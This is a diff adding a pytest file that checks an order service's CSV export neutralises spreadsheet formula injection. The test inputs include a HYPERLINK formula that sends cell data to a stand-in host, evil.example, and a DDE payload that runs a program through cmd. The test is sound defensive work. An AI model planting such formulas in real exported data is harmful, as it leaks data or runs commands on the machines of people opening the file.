@@ -1,0 +1,48 @@
+"""OWASP API10:2023 Unsafe Consumption of APIs: what channels send is data, never code — in
+CSV downloads a cell that a spreadsheet would run as a formula is neutralised."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from fastapi.testclient import TestClient
+
+from orderhub.api.csv_out import safe_cell
+from orderhub.bootstrap import Container
+from tests.integration.fulfilment_support import place_order
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-1+1", "'-1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-67.41", "-67.41"),  # a plain number stays a number
+        ("R-2", "R-2"),
+        (3, 3),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell: object, written: object) -> None:
+    assert safe_cell(cell) == written
+
+
+def test_the_reconciliation_csv_neutralises_a_channels_formula(
+    client: TestClient, seeded: Container, admin: dict[str, str]
+) -> None:
+    place_order(
+        seeded, FORMULA, metadata={"channel_total": "99.00", "channel_total_matches": False}
+    )
+    params = {"from": "2026-11-20", "to": "2026-11-20", "format": "csv"}
+    got = client.get("/v1/reports/reconciliation", params=params, headers=admin)
+    assert got.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(got.text)))
+    assert [r["external_id"] for r in rows] == ["'" + FORMULA]
+    assert rows[0]["difference"] == "-67.41"
